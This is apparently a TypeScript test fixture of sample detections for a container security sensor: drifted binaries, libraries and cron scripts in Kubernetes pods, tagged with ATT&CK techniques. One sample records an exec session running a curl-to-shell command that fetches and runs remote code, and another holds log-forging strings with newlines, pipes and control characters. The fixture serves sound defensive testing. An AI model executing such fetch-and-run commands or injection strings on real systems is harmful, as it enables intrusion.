import type { Finding } from '../../../../sensor/finding/finding.ts';
import { nextSteps } from '../../../../sensor/finding/next-steps.ts';
import { techniqueName } from '../../../../sensor/finding/techniques.ts';
import { sampleFinding } from '../support/finding.ts';

const { file, process, container, pod, cluster: _cluster, ...rest } = sampleFinding(1);

/** With what the sensor says beside the summary, in its own words: how it came in, why each technique, what to do. */
function told(finding: Finding, why: Readonly<Record<string, string>>): Finding {
  const ids = Object.keys(why);
  const steps = nextSteps({
    ...finding,
    time: 1_795_168_800_123_456_789n,
    entry: finding.entry,
    subjectContainer: {
      slot: 1n,
      id: finding.container.id,
      runtime: 'containerd',
      engineNamespace: 'k8s.io',
      image: { source: { kind: 'lower_dirs', dirs: [] } },
      cgroupIds: [],
      mounts: [],
      ...(finding.pod !== undefined && { pod: finding.pod }),
    },
  });
  return {
    ...finding,
    attack: ids,
    attack_reasons: ids.map((id) => `${id} ${techniqueName(id)}: ${why[id]}`),
    ...(steps.length > 0 && { next_steps: steps }),
  };
}

/** Findings that are unlike each other, by name: what each format makes of them is kept beside the tests. */
export const samples: Readonly<Record<string, Finding>> = {
  'added-in-pod': told(
    sampleFinding(1, {
      summary:
        'A binary that is not in image registry.example/shop/web:1.4 ran from /tmp/.x/kworker-1 in container web of pod shop/web-6c5d7f9b8-x2x7q, as user 33, started by sh (4120), in an exec session that began with sh (4101).',
      entry: { kind: 'exec_session', pid: 4101, name: 'sh', args: ['sh', '-c', 'curl -s http://203.0.113.7/i | sh'] },
      process: {
        ...process,
        parents: [...process.parents.slice(0, 1), { pid: 4101, name: 'sh', exe: '/bin/busybox' }],
      },
    }),
    {
      T1105: 'it did not come with the image, so it came in later',
      'T1564.001': 'its path has a hidden part',
      T1609: "it was run in an exec session, not by the container's entrypoint",
    },
  ),
  'modified-again': sampleFinding(2, {
    verdict: 'modified',
    severity: 'critical',
    revision: 3,
    count: 41,
    last_seen: '2026-11-20T10:07:00.000000001Z',
    action: 'blocked',
    attack: ['T1554', 'T1548.001'],
    file: { ...file, path: '/usr/sbin/nginx', mode: '4755', expected_sha256: 'b'.repeat(64) },
  }),
  'relocated-without-pod': {
    ...rest,
    verdict: 'relocated',
    severity: 'medium',
    masquerade: true,
    attack: ['T1036.005'],
    file: { ...file, path: '/tmp/sshd', image_path: '/bin/busybox' },
    process: { ...process, parents: [] },
    container: { id: container.id, runtime: 'runc' },
  },
  'unverified-unknown-container': {
    ...rest,
    verdict: 'unverified',
    reason: 'unknown_container',
    severity: 'informational',
    confidence: 'low',
    attack: [],
    file: {
      path: file.path,
      size: 0,
      uid: 0,
      gid: 0,
      deleted: true,
    },
    process: { ...process, args: [] },
    container: { id: '/kubepods/unknown' },
  },
  'libraries-of-an-installer': told(
    sampleFinding(4, {
      object: 'library',
      summary:
        'A library that is not in image registry.example/shop/web:1.4 ran from /usr/lib/libdrift.so.1 in container web of pod shop/web-6c5d7f9b8-x2x7q, as root, started by dpkg (4200), below the entrypoint.',
      count: 31,
      revision: 4,
      entry: { kind: 'entrypoint', pid: 3990, name: 'nginx' },
      file: { ...file, path: '/usr/lib/libdrift.so.1', nearest_image_path: '/usr/lib/libother.so.1' },
      process: {
        ...process,
        name: 'ldconfig',
        exe: '/sbin/ldconfig',
        args: ['/sbin/ldconfig'],
        uid: 0,
        tty: true,
        args_truncated: true,
        parents: [
          { pid: 4200, name: 'dpkg', exe: '/usr/bin/dpkg', installer: true },
          { pid: 4199, name: 'apt-get' },
          { pid: 3990, name: 'nginx', exe: '/usr/sbin/nginx' },
        ],
      },
      ...(pod !== undefined && {
        pod: {
          ...pod,
          service_account: 'web',
          annotations: { 'example.org/team': 'payments' },
          namespace_labels: { tier: 'front' },
        },
      }),
      folded: {
        count: 30,
        distinct: 2,
        by: { pid: 4200, name: 'dpkg', exe: '/usr/bin/dpkg' },
        files: [
          {
            path: '/usr/bin/new',
            sha256: 'c'.repeat(64),
            verdict: 'added',
            object: 'binary',
            origin: 'writable_layer',
          },
          { path: '/usr/lib/x, y.so', verdict: 'added', object: 'library', origin: 'writable_layer' },
        ],
      },
    }),
    {
      T1105: 'it did not come with the image, so it came in later',
      'T1574.006': "a program mapped a library that is not its image's",
    },
  ),
  'script-by-cron': told(
    sampleFinding(5, {
      object: 'script',
      origin: 'tmpfs',
      confidence: 'medium',
      summary:
        'A script that is not in image registry.example/shop/web:1.4 ran from the memory filesystem at /dev/shm/.c in container web of pod shop/web-6c5d7f9b8-x2x7q, as root, started by crond (4001), on the schedule of crond (4001).',
      entry: { kind: 'cron', pid: 4001, name: 'crond' },
      file: { ...file, path: '/dev/shm/.c', mode: '0644' },
      process: { ...process, name: 'sh', exe: '/bin/busybox', args: ['sh', '/dev/shm/.c'], uid: 0 },
    }),
    { 'T1027.011': 'it lay in a memory filesystem and leaves nothing on disk', 'T1053.003': 'a scheduler ran it' },
  ),
  'said-by-another-version': sampleFinding(6, { attack: ['T9999.001', 'T9998'] }),
  'names-that-would-forge': sampleFinding(3, {
    entry: { kind: 'exec_session', pid: 1, name: 'a\nb=c', args: ['|x=\\\n', '\u202e'] },
    attack_reasons: ['T1105 x=y|z\\'],
    next_steps: ['say=this|that\n'],
    folded: {
      count: 2,
      distinct: 1,
      by: { pid: 2, name: 'd\u009bp=|kg' },
      files: [{ path: '/a\nb=|', verdict: 'added', object: 'binary', origin: 'writable_layer' }],
    },
    summary: 'A binary ran from /tmp/a\\u{a}=b|c]"',
    file: { ...file, path: '/tmp/a\n=b|c]"\u0007\u009b\u202e\\' },
    process: { ...process, name: 'a\nb', args: ['a b', "it's", '|\\=\n', 'x'.repeat(2000)] },
  }),
};
